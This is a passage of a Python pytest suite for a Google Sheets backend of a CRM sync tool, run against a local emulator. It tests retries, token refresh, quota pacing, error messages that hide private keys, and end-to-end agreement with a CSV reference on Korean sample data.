    report = table.write("이메일", TAGS)
    assert report.requests == 6 and column(book, "상태 태그")["jihoon@example.com"] == "J"


def test_persistent_html_503_names_the_status_not_the_page(
        book: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    book.fail("*", 503, times=None, html=True)
    with pytest.raises(BackendError) as err:
        make_table(retry=RetryPolicy(attempts=3)).read()
    message = str(err.value)
    assert "HTTP 503" in message and "an HTML error page" in message
    assert "<html" not in message.lower() and "after 3 attempts" in message


def test_timeouts_and_dropped_connections_are_retried(
        book: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    book.fail("values.get", 0, delay=3.0)  # answers, but after the read timeout
    book.fail("spreadsheets.get", drop=True)
    table = make_table(timeout=(2.0, 1.0))
    assert table.read().header == HEADER
    assert table.request_counts == {"spreadsheets.get": 2, "values.get": 2}


def test_a_dropped_token_request_is_retried_and_not_counted(
        book: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    book.fail("token", drop=True)
    table = make_table()
    assert table.read().header == HEADER
    assert book.count("token") == 2 and table.requests == 2  # metadata and values


def test_client_errors_are_not_retried(
        book: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    table = make_table()
    table.read()
    book.fail("values.batchUpdate", 400, message="Invalid data[0]: bad range")
    with pytest.raises(BackendError) as err:
        table.write("이메일", TAGS)
    assert "HTTP 400" in str(err.value) and "Invalid data[0]" in str(err.value)
    assert book.count("values.batchUpdate") == 1


def test_token_expiry_mid_run_refreshes_and_replays(
        book: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    table = make_table()
    table.read()
    assert book.count("token") == 1
    book.expire_tokens()
    report = table.write("이메일", TAGS)
    assert book.count("token") == 2
    assert [e.status for e in book.requests if e.kind == "values.batchGet"] == [401, 200, 200]
    assert report.cells_written == 3 and column(book, "상태 태그")["soohyun@example.com"] == "S"


def test_pacing_stays_under_the_quota(
        book: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable],
        clock: VirtualClock) -> None:
    pacer = make_pacer(clock, limit=2, period=60.0)
    table = make_table(pacer=pacer)
    table.read()
    table.write("이메일", TAGS)
    assert clock.sleeps == [60.0, 60.0] and pacer.waited == 120.0  # 5 requests, 2 a minute
    table.read()
    table.write("이메일", TAGS)
    assert clock.sleeps == [60.0] * 4 and table.requests == 9


def test_each_table_keeps_its_own_pace_at_the_quota_unless_given_one(
        book: SheetsEmulator, account: Account, clock: VirtualClock) -> None:
    """No process-wide limiter: a daemon keeps its table, and with it the pace."""
    first, second = (GoogleSheetsTable(KEY, account.info, place=SheetPlace(SHEET),
                                       http=HttpOptions(endpoint=book.url))
                     for _ in range(2))
    assert first.pacer is not second.pacer
    assert (first.pacer.limit, first.pacer.period) == (55, 60.0)
    shared = make_pacer(clock, limit=1, period=60.0)
    tables = [GoogleSheetsTable(KEY, account.info, place=SheetPlace(SHEET),
                                http=HttpOptions(endpoint=book.url, pacer=shared))
              for _ in range(2)]
    for table in tables:
        table.read()  # 2 requests each (metadata, values): 4 at 1 a minute
    assert clock.sleeps == [60.0, 60.0, 60.0] and shared.waited == 180.0


# --------------------------------------------------------------------------- errors


def test_missing_permission_names_the_email_to_share_with(
        emulator: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable],
        account: Account) -> None:
    emulator.add_spreadsheet(KEY, shared_with=["someone-else@example.com"])
    emulator.add_sheet(KEY, SHEET)
    with pytest.raises(BackendError) as err:
        make_table().read()
    message = str(err.value)
    assert "permission denied" in message and account.email in message
    assert "Share" in message and emulator.count("spreadsheets.get") == 1


def test_unknown_spreadsheet_is_not_found(
        emulator: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    with pytest.raises(BackendError) as err:
        make_table().read()
    assert "not found" in str(err.value) and KEY in str(err.value)


def test_missing_worksheet_lists_the_titles_there_are(
        book: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    with pytest.raises(BackendError) as err:
        make_table(worksheet="고객목록").read()
    assert "no worksheet named '고객목록'" in str(err.value)
    assert "'안내', '고객 목록'" in str(err.value)


def test_missing_key_column_is_an_error(
        book: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    table = make_table()
    table.read()
    with pytest.raises(BackendError, match="key column 'email' is not in the header"):
        table.write("email", TAGS)


def test_a_token_refused_by_the_server_is_explained_without_the_key(
        book: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable],
        account: Account) -> None:
    other = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    book.add_account(account.email, other.public_key())  # the server expects another key
    with pytest.raises(BackendError) as err:
        make_table().read()
    message = str(err.value)
    assert "could not get an access token" in message and "Invalid JWT Signature" in message
    assert "PRIVATE KEY" not in message and account.info["private_key"][40:80] not in message


@pytest.mark.parametrize("lookup", ["default", "on"])
def test_no_request_leaves_the_machine_when_the_google_hosts_are_rerouted(
        book: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable], account: Account,
        escapes: list[str], monkeypatch: pytest.MonkeyPatch, lookup: str) -> None:
    """With Google's own token_uri, the token request and any background lookup
    google-auth makes (some versions look up the account's allowed locations after a
    token is issued, others only when asked) reach the endpoint, never Google."""
    if lookup == "on":  # google-auth's switch for that lookup, where it has one
        monkeypatch.setenv("GOOGLE_SDK_EXPERIMENTAL_PYTHON_REGIONAL_ACCESS_BOUNDARY_"
                           "LOOKUP_ENABLED", "true")
    info = {**account.info, "token_uri": "https://oauth2.googleapis.com/token"}
    options = make_table()
    before = set(threading.enumerate())
    table = GoogleSheetsTable(KEY, info, place=SheetPlace(SHEET),
                              http=HttpOptions(endpoint=book.url, pacer=options.pacer,
                                               retry=options.retry))
    start = len(escapes)
    assert table.read().header == HEADER
    table.write("이메일", TAGS)
    settle_background(book, before)
    assert escapes[start:] == []
    assert book.count("token") == 1  # Google's token_uri, answered by the endpoint
    assert {entry.kind for entry in book.requests} <= {"token", "allowedLocations", *book.kinds()}
    assert all(entry.status in (200, 404) for entry in book.requests)


def test_the_emulator_speaks_what_gspread_sends(
        book: SheetsEmulator, make_table: Callable[..., GoogleSheetsTable]) -> None:
    """Plain gspread calls through the same session: the emulator keeps the API's rules."""
    from gspread.exceptions import APIError
    from gspread.utils import ValueRenderOption

    client = make_table()._client
    spreadsheet = client.open_by_key(KEY)
    sheet = spreadsheet.worksheet(SHEET)
    sheet.update([["=HYPERLINK(\"https://a.example\",\"링크\")", "007", "2025-06-01"]],
                 "F2:H2", raw=False)
    sheet.update([["=1+1", "007"]], "F3:G3", raw=True)
    assert sheet.get("F2:H3") == [["링크", "7", "2025-06-01"], ["=1+1", "007"]]  # typed form
    assert sheet.get("F2:H2", value_render_option=ValueRenderOption.unformatted) == [
        ["링크", 7, 45809]]
    assert sheet.get("F2", value_render_option=ValueRenderOption.formula) == [
        ["=HYPERLINK(\"https://a.example\",\"링크\")"]]
    assert [r.first() for r in sheet.batch_get(["B2", "B4"])] == [
        "soohyun@example.com", "chaerin@example.com"]
    assert sheet.get("A5:B9") == [[]]  # nothing there: no values at all
    sheet.append_rows([["최예나", "yena@example.com"]], value_input_option="RAW")
    assert sheet.get_all_values()[4][:2] == ["최예나", "yena@example.com"]
    with pytest.raises(APIError) as err:
        sheet.update([["x"]], "AA1")
    assert err.value.response.status_code == 400 and "exceeds grid limits" in str(err.value)
    sheet.add_cols(1)
    sheet.update([["x"]], "AA1")
    assert book.sheet(KEY, SHEET).col_count == 27
    shown = book.display(KEY, SHEET)
    assert shown[2][3] == "" and shown[3][:2] == ["박채린", "chaerin@example.com"]


# --------------------------------------------------------------------------- config


def config(folder: Path, emu: SheetsEmulator, creds: Path | None, *, worksheet: str = SHEET,
           spreadsheet: str = URL, paused: bool = False, extra: str = "") -> Path:
    """The shipped config.toml with [table] switched to this emulator's spreadsheet."""
    text = (ROOT / "config.toml").read_text(encoding="utf-8")
    table = (f'[table]\nbackend = "gsheets"\nspreadsheet = "{spreadsheet}"\n'
             f'worksheet = "{worksheet}"\nendpoint = "{emu.url}"\nkey = "email"\n'
             + (f'credentials = "{creds.as_posix()}"\n' if creds else "") + extra)
    text = re.sub(r"\[table\]\n(?:.*\n)*?key = .*\n", table, text, count=1)
    text = text.replace("paused = false", f"paused = {str(paused).lower()}")
    path = folder / "config.toml"
    path.write_text(text, encoding="utf-8")
    return path


def load(folder: Path, emu: SheetsEmulator, creds: Path | None, **kwargs: Any) -> Any:
    from sheetcrm.config import load_config

    return load_config(config(folder, emu, creds, **kwargs), {})


@pytest.mark.parametrize(("spreadsheet", "message"), [
    ("고객 관리", "not a spreadsheet key"),
    ("https://example.com/sheet", "not a Google Sheets URL"),
])
def test_config_errors_name_the_key_the_value_and_the_form(
        sample: Path, emulator: SheetsEmulator, account: Account, spreadsheet: str,
        message: str) -> None:
    from sheetcrm.table import open_table

    with pytest.raises(ConfigError) as err:
        open_table(load(sample, emulator, account.path, spreadsheet=spreadsheet))
    assert err.value.path == "table.spreadsheet"
    assert message in str(err.value) and spreadsheet in str(err.value)
    assert "docs.google.com/spreadsheets/d/KEY" in str(err.value)


def check_endpoint(value: str) -> str | None:
    """``[table] endpoint`` of a gsheets config, as loading the config checks it."""
    from sheetcrm.config import parse_table_settings

    settings = parse_table_settings({"backend": "gsheets", "key": "email",
                                     "spreadsheet": URL, "endpoint": value})
    return settings.endpoint  # type: ignore[union-attr]


def test_endpoint_must_be_https_unless_loopback(sample: Path, emulator: SheetsEmulator,
                                               account: Account) -> None:
    assert check_endpoint("http://localhost:8080/") == "http://localhost:8080"
    assert check_endpoint("https://proxy.example.com") == "https://proxy.example.com"
    for bad in ("http://proxy.example.com", "ftp://x", "sheets.example.com"):
        with pytest.raises(ConfigError) as err:
            check_endpoint(bad)
        assert err.value.path == "table.endpoint" and bad in str(err.value)


def test_credentials_default_to_the_environment_variable(
        sample: Path, emulator: SheetsEmulator, account: Account, book: SheetsEmulator,
        monkeypatch: pytest.MonkeyPatch) -> None:
    from sheetcrm.table import open_table

    cfg = load(sample, emulator, None)
    monkeypatch.delenv(gsheets.CREDENTIALS_ENV, raising=False)
    with pytest.raises(ConfigError) as err:
        open_table(cfg)
    assert err.value.path == "table.credentials" and gsheets.CREDENTIALS_ENV in str(err.value)
    monkeypatch.setenv(gsheets.CREDENTIALS_ENV, str(account.path))
    table = open_table(cfg)
    assert isinstance(table, GoogleSheetsTable) and table.read().header == HEADER


@pytest.mark.parametrize("broken", ["missing", "not json", "user", "no email", "bad key"])
def test_bad_key_files_are_config_errors_that_never_show_the_key(
        sample: Path, emulator: SheetsEmulator, account: Account, broken: str) -> None:
    from sheetcrm.table import open_table

    info = dict(account.info)
    path = sample / "key.json"
    if broken == "not json":
        path.write_text("{" + info["private_key"], encoding="utf-8")
    elif broken != "missing":
        if broken == "user":
            info["type"] = "authorized_user"
        elif broken == "no email":
            del info["client_email"]
        else:
            info["private_key"] = info["private_key"].replace("MII", "XXX")
        path.write_text(json.dumps(info), encoding="utf-8")
    with pytest.raises(ConfigError) as err:
        open_table(load(sample, emulator, path))
    assert err.value.path == "table.credentials" and str(path) in str(err.value)
    assert "PRIVATE KEY" not in str(err.value) and "MII" not in str(err.value)


# --------------------------------------------------------------------------- end to end
#
# The sample scenario runs twice: on the CSV backend (the reference) and on a Google
# sheet holding the same rows. Every send, count and owned cell must agree, so these
# tests hold whatever the shipped rules say.


def load_sample(emu: SheetsEmulator) -> list[list[str]]:
    """The shipped sample entered into '고객 목록' as an operator would type or import it.

    Dates, amounts and TRUE/FALSE become typed cells shown in the Korean locale; the
    phone column is text (a leading apostrophe), as it must be to keep its zero.
    """
    text = shipped_sample_csv().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    typed = [rows[0]] + [row[:2] + ["'" + row[2] if row[2] else ""] + row[3:]
                         for row in rows[1:]]
    emu.add_spreadsheet(KEY, title="소담 클래스 고객 관리")
    emu.add_sheet(KEY, "안내")
    emu.add_sheet(KEY, SHEET)
    emu.put(KEY, SHEET, typed)
    return rows


def sync_json(run_cli: Any, folder: Path, now: str) -> dict[str, Any]:
    result = run_cli(folder, "--now", now, "--json", "sync")
    assert result.code == 0, result.out + result.err
    return json.loads(result.out)


def csv_reference(sample: Path, run_cli: Any, *nows: str) -> tuple[list[dict[str, Any]],
                                                                    dict[str, dict[str, str]]]:
    """The CSV backend's runs on a copy of the sample, and its rows by key after them."""
    folder = sample / "csv-reference"
    folder.mkdir()
    copy_sample(folder)
    runs = [sync_json(run_cli, folder, now) for now in nows]
    text = (folder / "sample_sheets" / "customers.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    return runs, {row[1]: dict(zip(rows[0], row, strict=False)) for row in rows[1:] if row[1]}


def sends(data: dict[str, Any]) -> list[tuple[str, str, int, str]]:
    return sorted((s["key"], s["flow"], s["step"], s["template"]) for s in data["sends"])


def same_summary(a: dict[str, Any], b: dict[str, Any]) -> None:
    skip = {"seconds", "requests"}
    assert {k: v for k, v in a["summary"].items() if k not in skip} == {
        k: v for k, v in b["summary"].items() if k not in skip}


def owned(config_path: Path) -> list[str]:
    text = config_path.read_text(encoding="utf-8")
    block = text.split("[writeback]", 1)[1].split("[", 1)[0]
    return re.findall(r'^\w+\s*=\s*"([^"]+)"', block, re.MULTILINE)


def assert_owned_cells_match(emu: SheetsEmulator, reference: dict[str, dict[str, str]],
                             columns: list[str]) -> None:
    """Every owned cell of every customer holds what the CSV backend wrote for them."""
    for name in columns:
        shown = column(emu, name)
        assert set(reference) <= set(shown)
        for key, row in reference.items():
            if key != "gayoung.moon@example.com":  # on two rows: never written
                assert shown[key] == row.get(name, ""), (name, key)


def test_sample_scenario_end_to_end_on_a_korean_titled_worksheet(
        sample: Path, emulator: SheetsEmulator, account: Account, run_cli: Any) -> None:
    rows = load_sample(emulator)
    before = emulator.display(KEY, SHEET)
    assert before[2][3] == "2026. 11. 3" and before[2][5] == "149,000"  # typed cells
    path = config(sample, emulator, account.path)
    (want, want_again), reference = csv_reference(sample, run_cli, DAY0, "2026-11-23T10:05")

    data = sync_json(run_cli, sample, DAY0)
    assert data["summary"]["rows_read"] == 26 and data["summary"]["sent"] > 0
    assert sends(data) == sends(want) and data["errors"] == want["errors"]
    same_summary(data, want)
    assert len(list((sample / "outbox").glob("*.eml"))) == data["summary"]["sent"]
    messages = " | ".join(e["message"] for e in data["errors"])
    assert "'2026-02-30' is not a date" in messages and "'몰라'" in messages

    # One metadata read, one values read, one key re-read, one RAW batch write, one check.
    assert emulator.kinds() == ["spreadsheets.get", "values.get", "values.batchGet",
                                "values.batchUpdate", "values.batchGet"]
    assert emulator.writes()[0].json()["valueInputOption"] == "RAW"
    after = emulator.display(KEY, SHEET)
    added = [name for name in owned(path) if name not in rows[0]]
    assert added and after[0] == rows[0] + added  # appended at the end of the header
    assert_owned_cells_match(emulator, reference, owned(path))
    assert column(emulator, "상태 태그")["soohyun.kim@example.com"].startswith("결제 대기")
    assert column(emulator, "오류")["yuna.shin@example.com"].startswith(
        "신청일: '2026-02-30' is not a date")
    width = len(rows[0]) - 2  # the sample's last two columns are owned ones
    for old, new in zip(before, after, strict=True):  # nothing else changed
        assert new[:width] == old[:width]
    assert after[11][2] == "01098765432"

    # A second run right after: same as the CSV backend, and nothing written.
    emulator.clear_log()
    again = sync_json(run_cli, sample, "2026-11-23T10:05")
    assert sends(again) == sends(want_again) and again["summary"]["cells_written"] == 0
    assert emulator.writes() == []


def test_check_and_plan_never_write(sample: Path, emulator: SheetsEmulator, account: Account,
                                    run_cli: Any) -> None:
    load_sample(emulator)
    config(sample, emulator, account.path)
    checked = run_cli(sample, "--now", DAY0, "--json", "check")
    assert checked.code == 1  # the sample's bad rows
    findings = json.loads(checked.out)["findings"]
    assert any("is not in the sheet; sync will append it" in f["message"] for f in findings)
    planned = run_cli(sample, "--now", DAY0, "plan")
    assert planned.code == 0 and "would be sent" in planned.out
    assert emulator.writes() == []
    assert emulator.count("values.batchGet") == 0
    assert not (sample / "outbox").exists()


def test_check_reports_missing_permission_and_sync_fails_cleanly(
        sample: Path, emulator: SheetsEmulator, account: Account, run_cli: Any) -> None:
    load_sample(emulator)
    emulator.spreadsheets[KEY].shared_with = set()
    config(sample, emulator, account.path)
    checked = run_cli(sample, "--now", DAY0, "--json", "check")
    assert checked.code == 1
    table = [f for f in json.loads(checked.out)["findings"] if f["where"] == "table"]
    assert account.email in table[0]["message"] and "Share" in table[0]["message"]
    synced = run_cli(sample, "--now", DAY0, "sync")
    assert synced.code == 3 and account.email in synced.err
    assert not (sample / "outbox").exists()
    assert "PRIVATE KEY" not in checked.out + synced.out + synced.err


def test_check_reports_a_missing_worksheet(sample: Path, emulator: SheetsEmulator,
                                           account: Account, run_cli: Any) -> None:
    load_sample(emulator)
    config(sample, emulator, account.path, worksheet="고객")
    checked = run_cli(sample, "--json", "check")
    table = [f for f in json.loads(checked.out)["findings"] if f["where"] == "table"]
    assert "no worksheet named '고객'" in table[0]["message"]
    assert "'안내', '고객 목록'" in table[0]["message"]


@pytest.mark.parametrize(("kind", "when"), [
    ("values.batchGet", "before"),  # before the key re-read
    ("values.batchUpdate", "before"),  # between the re-read and the write
    ("values.batchUpdate", "after"),  # after the write, before the check
])
def test_rows_sorted_and_inserted_during_a_sync_get_their_own_cells(
        sample: Path, emulator: SheetsEmulator, account: Account, run_cli: Any,
        kind: str, when: str) -> None:
    load_sample(emulator)
    path = config(sample, emulator, account.path)
    (want,), reference = csv_reference(sample, run_cli, DAY0)

    def operator(emu: SheetsEmulator) -> None:
        emu.sort_rows(KEY, SHEET, 1, descending=True)
        emu.insert_rows(KEY, SHEET, 2, [["새 고객", "new.one@example.com", "", "2026-11-23"]])

    emulator.on(kind, operator, when=when)
    data = sync_json(run_cli, sample, DAY0)
    assert sends(data) == sends(want) and data["summary"]["cells_written"] > 0
    assert_owned_cells_match(emulator, reference, owned(path))
    assert all(cell == "" for cell in emulator.display(KEY, SHEET)[1][16:])  # the new row
    emails = [row[1] for row in emulator.display(KEY, SHEET)[2:] if row[1]]
    assert emails == sorted(emails, reverse=True)
    repaired = data["summary"]["rows_repaired_at_write"]
    assert (repaired > 0) == (kind == "values.batchUpdate" and when == "before")


def test_ten_thousand_rows_cost_five_requests_then_four_then_one(
        sample: Path, emulator: SheetsEmulator, account: Account) -> None:
    from sheetcrm.app.runner import sync
    from sheetcrm.config import load_config
    from sheetcrm.table import open_table

    text = shipped_sample_csv().decode("utf-8-sig")
    header = next(csv.reader(io.StringIO(text)))
    rows = [header] + [
        [f"고객{i}", f"user{i}@example.com", f"010-{i:04d}-0000", "2026-11-01", "엑셀 기초",
         "" if i % 2 else "99,000", "X" if i % 2 else "O", "X", "X",
         "" if i % 2 else "2026-11-20 10:00", "0", "", "O", "", "", ""]
        for i in range(10_000)]
    emulator.add_spreadsheet(KEY)
    emulator.add_sheet(KEY, "안내")
    emulator.add_sheet(KEY, SHEET, rows=10_500)
    emulator.put_fast(KEY, SHEET, rows)
    cfg = load_config(config(sample, emulator, account.path, paused=True), {})
    now = datetime.fromisoformat(DAY0).replace(tzinfo=cfg.tz)

    table = open_table(cfg)  # a one-off sync: metadata, values, key column, write, check
    first = sync(cfg, now, table=table)
    assert first.plan.rows_read == 10_000 and first.write is not None
    assert emulator.kinds() == ["spreadsheets.get", "values.get", "values.batchGet",
                                "values.batchUpdate", "values.batchGet"]
    assert first.write.requests == 3 and table.requests == 5
    assert column(emulator, "상태 태그")["user9999@example.com"] == "결제 대기"

    emulator.clear_log()  # a daemon tick on the same table: metadata is cached
    tick = sync(cfg, now + timedelta(days=2), table=table)
    assert tick.write is not None and tick.write.cells_written > 0
    assert emulator.kinds() == ["values.get", "values.batchGet", "values.batchUpdate",
                                "values.batchGet"]

    emulator.clear_log()  # nothing changed since: nothing written
    idle = sync(cfg, now + timedelta(days=2), table=table)
    assert idle.write is None and emulator.kinds() == ["values.get"]
